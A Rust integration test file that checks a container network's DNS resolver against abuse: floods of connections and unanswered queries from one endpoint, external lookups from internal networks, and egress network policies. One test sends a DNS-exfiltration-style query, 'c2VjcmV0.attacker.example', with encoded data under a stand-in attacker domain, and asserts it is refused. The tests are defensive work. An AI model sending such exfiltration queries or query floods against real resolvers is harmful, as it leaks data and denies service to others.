//! What one client can take of the resolver, and what it gets no answer for.

#![allow(clippy::unwrap_used, reason = "tests, and helpers of tests")]

use std::net::{Ipv4Addr, TcpStream, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Result, ensure};
use netns_lab::{Host, Lab, wait_until};
use ovl_tests::ports::create_bridge_network;
use ovl_tests::resolver::{Behaviour, FakeResolver, ResolvConf, config, dig, status};
use ovl_tests::{
    Attached, SOON, assert_contains, attach, attach_workload, create_network, start_lab_with, wait_clean,
    wait_problem,
};
use serde_json::{Value, json};

const AT: &str = "127.0.0.11";
const FIRST: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 1);
const SILENT: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);

/// A lab of one host with a resolver that answers.
fn lab(more: &str) -> (Lab, ResolvConf, FakeResolver) {
    let (config, file) = config(1, &["127.0.0.1"], more).unwrap();
    let lab = start_lab_with(config).unwrap();
    let upstream = FakeResolver::start(&lab["h1"], FIRST, Behaviour::Answers).unwrap();
    (lab, file, upstream)
}

/// Two endpoints on networks of their own.
fn bad_and_good(lab: &Lab) -> [Attached; 2] {
    create_network(lab, "blue", &["--subnet", "10.70.0.0/24"]).unwrap();
    create_network(lab, "red", &["--subnet", "10.71.0.0/24"]).unwrap();
    [attach(&lab["h1"], "bad", "blue", &[]).unwrap(), attach(&lab["h1"], "good", "red", &[]).unwrap()]
}

fn limited(host: &Host) -> u64 {
    let metrics = host.ctl_ok(&["metrics"]).unwrap();
    let line = metrics.lines().find(|line| line.contains("outcome=\"limited\"")).unwrap();
    line.rsplit(' ').next().unwrap().parse().unwrap()
}

#[test]
fn idle_tcp_connections_of_one_endpoint_stop_no_other() {
    let (lab, _file, _upstream) = lab("");
    let [bad, good] = bad_and_good(&lab);
    let open = || -> Result<Vec<TcpStream>> {
        let all = (0..200).map(|_| TcpStream::connect((AT, 53)));
        Ok(all.collect::<std::io::Result<_>>()?)
    };
    let held = bad.workload.run(open).unwrap().unwrap();
    for name in ["good", "example.org"] {
        for _ in 0..5 {
            assert_eq!(dig(&good.workload, AT, &["+tcp", name]).unwrap().len(), 1, "{name}");
        }
        // Its own queries are answered, too: its idle connections make room.
        let name = if name == "good" { "bad" } else { name };
        assert_eq!(dig(&bad.workload, AT, &["+tcp", name]).unwrap().len(), 1, "{name}");
    }
    wait_problem(&lab["h1"], &["endpoint bad", "TCP connections"], SOON).unwrap();
    assert!(limited(&lab["h1"]) >= 170);
    drop(held);
}

#[test]
fn unanswered_queries_of_one_endpoint_stop_no_other() {
    let (lab, _file, _upstream) = lab("[stub_domains]\n\"slow.test\" = [\"127.0.0.2\"]\n");
    let _silent = FakeResolver::start(&lab["h1"], SILENT, Behaviour::Silent).unwrap();
    let [bad, good] = bad_and_good(&lab);
    let stop = AtomicBool::new(false);
    let socket = bad.workload.run(|| UdpSocket::bind("0.0.0.0:0")).unwrap().unwrap();
    std::thread::scope(|scope| {
        scope.spawn(|| {
            // 1,250 queries a second for names that nobody answers.
            let mut number = 0u32;
            let mut next = Instant::now();
            while !stop.load(Ordering::SeqCst) {
                for _ in 0..25 {
                    number += 1;
                    let _ = socket.send_to(&query(&format!("n{number}"), "slow", "test"), (AT, 53));
                }
                next += Duration::from_millis(20);
                std::thread::sleep(next.saturating_duration_since(Instant::now()));
            }
        });
        let result = (|| -> Result<()> {
            // By then, all questions in flight would be those of the one.
            wait_problem(&lab["h1"], &["endpoint bad", "queries waiting"], SOON)?;
            wait_until(SOON, "more refused queries than all together may wait", || {
                limited(&lab["h1"]) > 2_000
            })?;
            for number in 0..10 {
                let found = dig(&good.workload, AT, &[&format!("v{number}.example.org")])?;
                ensure!(found == ["192.0.2.7"], "{found:?}");
            }
            Ok(())
        })();
        stop.store(true, Ordering::SeqCst);
        result.unwrap();
    });
    assert!(limited(&lab["h1"]) > 1_000);
    // Its own queries are answered again as soon as the others have failed.
    wait_until(SOON, "an answer", || {
        ensure!(dig(&bad.workload, AT, &["w.example.org"])? == ["192.0.2.7"]);
        Ok(())
    })
    .unwrap();
}

/// Writes a query for the A records of a name of three labels.
fn query(first: &str, second: &str, third: &str) -> Vec<u8> {
    let mut query = vec![0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in [first, second, third] {
        query.push(u8::try_from(label.len()).unwrap());
        query.extend(label.as_bytes());
    }
    query.extend([0, 0, 1, 0, 1]);
    query
}

#[test]
fn internal_networks_get_no_external_names() {
    let (lab, _file, upstream) = lab("");
    let host = &lab["h1"];
    create_network(&lab, "inner", &["--internal", "--subnet", "10.78.0.0/24"]).unwrap();
    create_network(&lab, "routed", &["--internal", "--mode", "l3", "--subnet", "10.79.0.0/16"]).unwrap();
    create_bridge_network(host, "local", &["--internal", "--subnet", "10.80.0.0/24"]).unwrap();
    let asking = ["--internal", "--external-names", "--subnet", "10.81.0.0/24"];
    create_network(&lab, "asking", &asking).unwrap();
    create_network(&lab, "blue", &["--subnet", "10.82.0.0/24"]).unwrap();
    for network in ["inner", "routed", "local"] {
        let asker = attach(host, &format!("on-{network}"), network, &[]).unwrap();
        for how in ["+notcp", "+tcp"] {
            assert_eq!(status(&asker.workload, AT, &["c2VjcmV0.attacker.example", how]).unwrap(), "REFUSED");
        }
        assert_eq!(dig(&asker.workload, AT, &[&asker.name]).unwrap(), [asker.address()]);
        let said = host.ctl_json(&["dns", "attacker.example", "--from", &asker.name]).unwrap();
        assert_eq!(said["status"], "REFUSED");
        assert_contains(said["why"].as_str().unwrap(), &["internal networks alone", "--external-names"]);
    }
    assert_eq!(upstream.udp_queries() + upstream.tcp_connections(), 0);
    let asker = attach(host, "asker", "asking", &[]).unwrap();
    assert_eq!(dig(&asker.workload, AT, &["example.org"]).unwrap(), ["192.0.2.7"]);
    // An endpoint that is on another network as well has a route out anyway.
    let both = attach(host, "both", "inner", &[]).unwrap();
    attach_workload(both.workload.clone(), "blue", &[]).unwrap();
    assert_eq!(dig(&both.workload, AT, &["two.example.org"]).unwrap(), ["192.0.2.7"]);
    wait_clean(lab.hosts(), SOON).unwrap();
}

/// Applies a policy about the egress of the endpoint that is labelled `app=web`.
fn apply(host: &Host, rules: Value) {
    let policy = json!({
        "apiVersion": "networking.k8s.io/v1",
        "kind": "NetworkPolicy",
        "metadata": { "name": "out", "namespace": "default" },
        "spec": {
            "podSelector": { "matchLabels": { "app": "web" } },
            "policyTypes": ["Egress"],
            "egress": rules,
        },
    });
    let file = std::env::temp_dir().join(format!("ovl-egress-{}.json", std::process::id()));
    std::fs::write(&file, policy.to_string()).unwrap();
    let done = host.ctl_ok(&["apply", "-f", file.to_str().unwrap()]);
    std::fs::remove_file(&file).unwrap();
    done.unwrap();
}

#[test]
fn egress_policies_cover_the_resolver() {
    let (lab, _file, upstream) = lab("");
    let host = &lab["h1"];
    create_network(&lab, "blue", &["--subnet", "10.70.0.0/24", "--subnet", "fd70::/64"]).unwrap();
    let web = attach(host, "web", "blue", &["--label", "app=web"]).unwrap();
    let other = attach(host, "other", "blue", &[]).unwrap();
    let answers = |server: &str, how: &str| {
        let server = format!("@{server}");
        let args = ["dig", "+short", "+time=1", "+tries=1", how, &server, "web", "example.org"];
        web.workload.exec(args).unwrap().stdout.contains(&web.address())
    };
    let expect = |rules: Value, allowed: bool| {
        apply(host, rules.clone());
        wait_until(SOON, &format!("the resolver to be allowed ({allowed}) by {rules}"), || {
            for server in [AT, "169.254.79.53", "fd6f:766c::53"] {
                for how in ["+notcp", "+tcp"] {
                    ensure!(answers(server, how) == allowed, "{server} {how}");
                }
            }
            Ok(())
        })
        .unwrap();
    };
    let dns = json!([{ "port": 53, "protocol": "UDP" }, { "port": 53, "protocol": "TCP" }]);
    expect(json!([]), false);
    let before = upstream.udp_queries();
    assert_eq!(dig(&other.workload, AT, &["unasked.example.org"]).unwrap(), ["192.0.2.7"]);
    assert_eq!(upstream.udp_queries(), before + 1, "others are answered, and nothing else is forwarded");
    expect(json!([{ "ports": dns }]), true);
    expect(json!([{ "to": [{ "podSelector": {} }], "ports": dns }]), false);
    expect(json!([{ "to": [{ "namespaceSelector": {} }], "ports": dns }]), true);
    expect(json!([{ "to": [{ "ipBlock": { "cidr": "10.70.0.0/16" } }] }]), false);
    // The cluster DNS is at 10.96.0.10.
    expect(json!([{ "to": [{ "ipBlock": { "cidr": "10.96.0.0/16" } }], "ports": dns }]), true);
    let cluster_dns = json!({
        "namespaceSelector": { "matchLabels": { "kubernetes.io/metadata.name": "kube-system" } },
        "podSelector": { "matchLabels": { "k8s-app": "kube-dns" } },
    });
    expect(json!([{ "to": [cluster_dns], "ports": dns }]), true);
    expect(json!([{ "ports": [{ "port": 443 }] }]), false);
    let refusal = host.ctl(&["dns", "example.org", "--from", "web"]).unwrap();
    assert_contains(&refusal.stderr, &["network policy"]);
    host.ctl_ok(&["delete", "networkpolicy", "out"]).unwrap();
    wait_until(SOON, "an answer", || {
        ensure!(answers(AT, "+notcp"));
        Ok(())
    })
    .unwrap();
}
